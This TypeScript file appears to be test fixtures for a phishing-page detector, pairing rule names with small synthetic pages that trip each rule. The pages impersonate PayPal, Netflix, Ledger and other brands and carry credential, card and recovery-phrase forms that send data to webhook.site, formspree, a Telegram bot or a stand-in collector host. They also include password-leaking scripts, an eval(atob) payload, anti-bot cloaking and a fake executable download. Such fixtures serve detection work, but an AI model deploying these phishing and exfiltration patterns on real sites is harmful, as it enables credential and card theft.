import type { GivenDraft } from "./given-draft.ts"
import { makeSite } from "./innocent-site.ts"

const ours = "Ferry tickets to Skerry"
const elsewhere = "https://gather.example/"
const chat = "https://api.telegram.org/bot1:A/sendMessage"
/** Sends to another site by a script that reads the answer. Only the receiver counts against it. */
export const writeScriptedForm = (to: string, fields: string) =>
  `<form id="f">${fields}</form><script>fetch("${to}",{method:"POST",body:new FormData(f)}).then((r)=>r.json())</script>`
const form = (action: string, fields: string) =>
  action.startsWith(elsewhere)
    ? writeScriptedForm(action, fields)
    : `<form action="${action}" method="post">${fields}</form>`
const login = (action: string) => form(action, `<input type="password" name="p">`)
const card = (action: string) => form(action, `<input name="cardnumber"><input name="cvv">`)
const maskInput = (action: string) =>
  `<style>.x{-webkit-text-security:disc}</style>${form(action, `<input class="x" name="x">`)}`
const footer = (name: string) => `<footer>© 2026 ${name}</footer>`
const whole = `<iframe src="${elsewhere}" style="position:fixed;inset:0;height:100%"></iframe>`
const alone = makeSite("a frame alone", "Netflix", `<iframe src="${elsewhere}"></iframe>`)
const leaves = `<meta http-equiv="refresh" content="1;url=${elsewhere}">`
const names = Array.from({ length: 31 }, (_, n) => `_0x${(n + 4096).toString(16)}=1`).join(";")

const appendLeakOf = (field: string) =>
  `${field}<script>onclick=()=>open("https://gather.example/w?"+encodeURIComponent(f.value))</script>`
const words = "Moss grows on the north side of the pier. ".repeat(4)
const decoded = `<script>eval(atob("${"Qm9h".repeat(80)}"))</script>`
export const broken = Array.from({ length: 8 }, () => `Fe<b class="z">xq</b>rry`).join(" ")
export const program = `<a download="Ferry.exe" href="data:application/octet-stream;base64,TVo=">Ferry</a>`

/** A page in an address in a page, and so on. */
export const nested = Array.from({ length: 6 }).reduce<string>(
  (inner) => `<iframe src="data:text/html,${encodeURIComponent(inner)}"></iframe>`,
  "<p>Moss</p>",
)

const messenger = makeSite(
  "a code for a messenger",
  "Vote for Emma",
  `<p>Open WhatsApp, Linked devices, and type <b id="k"></b></p><script>fetch("/k").then((r)=>r.text()).then((t)=>{k.textContent=t})</script>`,
)
const besideOwnName = makeSite(
  "card, asks to sign in",
  ours,
  `<h1>${ours}</h1><h2>Sign in to Netflix</h2>${card("/pay")}`,
)
const linkUnderName = makeSite(
  "a link under a name",
  "Netflix",
  `<p>Go on.</p><a href="https://moss-films.example/">Next</a>`,
)
const storedPhrase = makeSite("a phrase without coins", "Recovery", form("/r", `<input placeholder="Recovery phrase">`))

/** A rule, and a draft that is flagged and is not without the rule. */
export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]> = [
  ["links-messenger", messenger],
  ["links-messenger-without-name", messenger],
  ["asks-under-sign-in", besideOwnName],
  ["asks-under-sign-in-alone", besideOwnName],
  ["asks-under-owner", makeSite("card, copyright", ours, `<h1>${ours}</h1>${card(elsewhere)}${footer("Netflix")}`)],
  [
    "asks-under-logo",
    makeSite(
      "card, logo",
      ours,
      `<base href="${elsewhere}"><h1>${ours}</h1><img class="logo" src="l.png" alt="Netflix">${card("pay")}`,
    ),
  ],
  [
    "card-with-secret",
    makeSite("card and PIN", ours, `<h1>${ours}</h1>${form(elsewhere, `<input name="cardnumber"><input name="pin">`)}`),
  ],
  [
    "asks-under-sign-in",
    makeSite("masked, asks to sign in", ours, `<h1>${ours}</h1><h2>Sign in to PayPal</h2>${maskInput("/in")}`),
  ],
  ["leads-away-under-title", linkUnderName],
  ["leads-away-without-name", linkUnderName],
  ["phrase-field-without-coins", storedPhrase],
  ["phrase-field-without-name", storedPhrase],
  [
    "phrase-asked-above",
    makeSite(
      "a phrase that another sentence stands under",
      "Ledger Live",
      `<h1>Critical firmware update 2.4.1</h1><p>Enter your recovery phrase</p><p>to restore access to your device</p><form action="/r"><textarea name="w"></textarea></form>`,
    ),
  ],
  ["asks-under-heading", makeSite("masked, heading", ours, `<h1>PayPal ferries</h1>${maskInput(chat)}`)],
  ["asks-under-owner", makeSite("masked, copyright", ours, `<h1>${ours}</h1>${maskInput(chat)}${footer("PayPal")}`)],
  [
    "asks-under-near-title",
    makeSite("masked, title with more words", "PayPal ferries", `${leaves}<h1>${ours}</h1>${maskInput(chat)}`),
  ],
  ["secret-to-collector", makeSite("to a collector", ours, `<h1>${ours}</h1>${login("https://webhook.site/1")}`)],
  ["secret-to-form-relay", makeSite("to a relay", ours, `<h1>${ours}</h1>${login("https://formspree.io/f/1")}`)],
  [
    "papers-to-form-relay",
    makeSite(
      "papers to a relay",
      "Ferry",
      `<h1>Ferry</h1><p>Your account is locked.</p><form action="https://formspree.io/f/1"><input name="ssn"></form>`,
    ),
  ],
  [
    "code-under-name",
    makeSite(
      "a code under a name",
      "Ferry",
      `<div>PayPal</div><form action="/in"><input type="password"><input name="otp"></form>`,
    ),
  ],
  [
    "company-fields",
    makeSite(
      "fields of a company",
      "Ferry",
      `<form action="/in"><input name="loginfmt"><input type="password"></form>`,
    ),
  ],
  [
    "company-fields-without-name",
    makeSite(
      "fields of a company",
      "Ferry",
      `<form action="/in"><input name="loginfmt"><input type="password"></form>`,
    ),
  ],
  ["frame-over-page", alone],
  ["frame-over-page-under-name", alone],
  ["frame-over-sign-in", makeSite("a frame to sign in", "Sign in to your account", whole)],
  [
    "leaves-with-visitor",
    makeSite(
      "takes its visitor along",
      "Ferry",
      `<script>location="https://gather.example/?e="+btoa(location.hash)</script>`,
    ),
  ],
  [
    "for-people-without-tools",
    makeSite(
      "asks only people without tools",
      "Ferry",
      `${leaves}<script>if(/bot|crawl/.test(navigator.userAgent))document.body.innerHTML="";setInterval(()=>{debugger},9)</script>`,
    ),
  ],
  ["form-to-chat", makeSite("to a chat", ours, `${leaves}<h1>${ours}</h1>${whole}${form(chat, `<input name="x">`)}`)],
  [
    "hidden-frame",
    makeSite(
      "unseen frame",
      ours,
      `<h1>${ours}</h1>${login(`${elsewhere}next.php`)}<iframe hidden src="a.html"></iframe>`,
    ),
  ],
  [
    "obscured",
    makeSite("unreadable", ours, `<h1>${ours}</h1>${login(`${elsewhere}next.php`)}<script>var a="b";${names}</script>`),
  ],
  [
    "blob-page",
    makeSite(
      "page of a script",
      ours,
      `<h1>${ours}</h1>${login(`${elsewhere}next.php`)}<script>location=URL.createObjectURL(new Blob([a],{type:"text/html"}))</script>`,
    ),
  ],
  [
    "secret-in-other-file",
    {
      id: "no page by its name",
      files: { "a.txt": `<!doctype html><title>${ours}</title><h1>${ours}</h1>${login(elsewhere)}` },
    },
  ],
  [
    "logo-by-address",
    makeSite(
      "logo of any company",
      ours,
      `<h1>${ours}</h1><img src="https://logo.clearbit.com/skerry.example">${login(elsewhere)}`,
    ),
  ],
  [
    "company-image-under-name",
    makeSite(
      "picture of that company",
      "PayPal ferries",
      `<h1>${ours}</h1><img src="https://www.paypalobjects.com/a.png">${login("/in")}`,
    ),
  ],
  [
    "choose-mailbox",
    makeSite(
      "whichever mail",
      "Ferry list",
      `<ul><li>Outlook</li><li>Gmail</li><li>Yahoo</li></ul>${login(elsewhere)}`,
    ),
  ],
  [
    "asks-under-letterhead",
    makeSite(
      "head of a letter",
      "Ferry tickets",
      `<div>PayPal</div><img src="https://www.paypalobjects.com/a.png">${login("/in")}`,
    ),
  ],
  [
    "typed-into-address",
    makeSite("typed into an address", ours, `<h1>${ours}</h1>${appendLeakOf(`<input type="password">`)}`),
  ],
  [
    "secret-into-address",
    makeSite("secret into an address", ours, `<h1>${ours}</h1>${appendLeakOf(`<input type="password">`)}`),
  ],
  [
    "decoded-and-asks",
    makeSite("fields and what is decoded", ours, `<h1>${ours}</h1><p>${words}</p><input name="a">${decoded}`),
  ],
  ["letters-in-words", makeSite("letters in words", ours, `<h1>${broken}</h1>${login(elsewhere)}`)],
  ["title-of-nothing", makeSite("title of nothing", "…", `<h1>${ours}</h1>${appendLeakOf(`<input name="a">`)}`)],
  ["drops-program", makeSite("program under a name", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
  ["drops-program-under-name", makeSite("program under a name", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
  ["coins-under-name", makeSite("coins under a name", "Ferry", `<div>Binance</div><p>bc1q${"a".repeat(30)}</p>`)],
  [
    "call-under-name",
    makeSite(
      "call under a name",
      "…",
      `<h1>PayPal desk of the ferries</h1><a href="tel:080000000">call</a><input name="a">`,
    ),
  ],
  ["deeper-than-read", makeSite("six pages deep", ours, `<h1>${ours}</h1>${login(`${elsewhere}`)}${nested}`)],
]
